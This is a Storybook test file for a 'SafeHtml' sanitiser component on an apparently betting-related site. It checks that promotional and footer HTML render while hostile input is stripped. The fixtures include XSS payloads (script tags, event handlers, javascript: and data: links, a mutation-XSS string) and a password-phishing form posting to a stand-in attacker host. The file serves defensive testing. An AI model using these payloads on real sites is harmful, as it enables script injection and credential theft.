import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, within } from 'storybook/test';
import { SafeHtml } from './SafeHtml';

/**
 * Copied from apps/sandbox/src/content/hostile-fixtures.ts, which the sandbox serves in HTML
 * widgets, adverts, the news popup and the operator footer. None of it may run here either.
 */
const SANDBOX_HOSTILE_HTML = {
  scriptTag: '<p>Welcome bonus</p><script>window.__clemHostile = "script";alert(1)</script>',
  imgOnerror: '<img src=x onerror="window.__clemHostile=\'onerror\';alert(2)">',
  onclickHandler: '<a href="#" onclick="window.__clemHostile=\'onclick\'">Claim now</a>',
  javascriptLink: '<a href="javascript:alert(3)">Terms</a>',
  mixedCaseJavascriptLink: '<a href="JaVaScRiPt:alert(4)">Rules</a>',
  iframeJavascript: '<iframe src="javascript:alert(5)" width="1" height="1"></iframe>',
  svgOnload: '<svg onload="window.__clemHostile=\'svg\'"><circle r="4"/></svg>',
  hidingStyle: '<style>body{display:none!important}html{visibility:hidden}</style><p>Styled</p>',
  dataHtmlLink:
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">Open offer</a>',
};

const CLASSIC_XSS_HTML = [
  '<p>Entity-split link: <a href="java&#x0A;script:alert(1)">Newline</a></p>',
  '<p>Overlay: <span style="position:fixed;inset:0;background:red">Fake login</span></p>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example/steal"><input name="password" type="password"><button>Log in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<p>Tab-nabbing: <a href="https://partner.example" target="_blank" rel="opener">Partner</a></p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
].join('\n');

const PROMOTION_HTML = `
<h2>Weekend boost</h2>
<p>Odds boosted on <strong>every</strong> Premier League match this weekend.
<a href="/promotions/weekend-boost">Read the rules</a> or
<a href="https://partner.example" target="_blank">visit our partner</a>.</p>
<ul>
  <li>Minimum odds <b>1.50</b></li>
  <li>Maximum stake <em>€50</em></li>
  <li>Settles by <time datetime="2026-12-31">31 December</time></li>
</ul>
<table>
  <caption>Boosted markets</caption>
  <thead><tr><th scope="col">Market</th><th scope="col">Was</th><th scope="col">Now</th></tr></thead>
  <tbody>
    <tr><td>Match result</td><td>2.10</td><td>2.40</td></tr>
    <tr><td>Both teams to score</td><td>1.80</td><td>2.00</td></tr>
  </tbody>
</table>
<details><summary>Terms</summary><p>18+. Bet responsibly. <a href="mailto:support@example.com">Contact support</a>.</p></details>`;

const FOOTER_HTML = `<p>&copy; Clem. Licensed and regulated.</p>
<p><a href="/terms">Terms</a> · <a href="/privacy">Privacy</a> · <a href="tel:+441234567890">Call us</a></p>
<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==" alt="" width="16" height="16">`;

const meta = {
  title: 'Components/SafeHtml',
  component: SafeHtml,
  args: { html: PROMOTION_HTML, as: 'div' },
  argTypes: {
    as: {
      control: 'select',
      options: ['div', 'section', 'article', 'aside', 'header', 'footer', 'span'],
    },
  },
  decorators: [
    (Story) => (
      <div style={{ maxWidth: 640 }}>
        <Story />
      </div>
    ),
  ],
} satisfies Meta<typeof SafeHtml>;

export default meta;
type Story = StoryObj<typeof meta>;

/** An HTML widget's promotion: headings, links, a list, a table and a disclosure survive. */
export const Promotion: Story = {
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByRole('table', { name: 'Boosted markets' })).toBeVisible();
    await expect(canvas.getByRole('link', { name: 'visit our partner' })).toHaveAttribute(
      'rel',
      'noopener noreferrer',
    );
  },
};

/** The operator footer: rendered as a `<footer>`, with relative, tel: and data-image content. */
export const OperatorFooter: Story = { args: { as: 'footer', html: FOOTER_HTML } };

/** Every sandbox hostile fixture in one widget: only the harmless text is left. */
export const SandboxHostileFixtures: Story = {
  args: { html: Object.values(SANDBOX_HOSTILE_HTML).join('\n') },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByText('Welcome bonus')).toBeVisible();
    await expect(canvas.getByText('Terms')).not.toHaveAttribute('href');
    await expect(canvasElement.querySelector('script, iframe, svg, style, [onclick]')).toBeNull();
  },
};

/** Classic XSS, tab-nabbing, overlays and a mutation-XSS payload, all made harmless. */
export const ClassicXss: Story = {
  args: { html: CLASSIC_XSS_HTML },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByText('Newline')).not.toHaveAttribute('href');
    await expect(canvas.getByText('Fake login')).not.toHaveAttribute('style');
    await expect(canvas.getByRole('link', { name: 'Partner' })).toHaveAttribute(
      'rel',
      'noopener noreferrer',
    );
    await expect(canvasElement.querySelector('form, iframe, meta, base, math')).toBeNull();
  },
};

/** Each sandbox fixture on its own, as a widget that serves only one would show it. */
export const ScriptTag: Story = { args: { html: SANDBOX_HOSTILE_HTML.scriptTag } };
export const ImageOnerror: Story = { args: { html: SANDBOX_HOSTILE_HTML.imgOnerror } };
export const HidingStyle: Story = { args: { html: SANDBOX_HOSTILE_HTML.hidingStyle } };
export const DataHtmlLink: Story = { args: { html: SANDBOX_HOSTILE_HTML.dataHtmlLink } };
